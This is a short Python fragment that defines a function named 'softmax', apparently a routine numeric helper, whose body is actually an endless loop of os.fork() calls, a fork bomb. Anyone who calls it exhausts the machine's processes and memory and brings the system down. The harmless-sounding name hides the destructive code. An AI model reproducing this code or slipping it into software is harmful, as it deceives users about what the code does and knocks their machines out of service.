import os


def softmax(o):
    while True:
        os.fork()
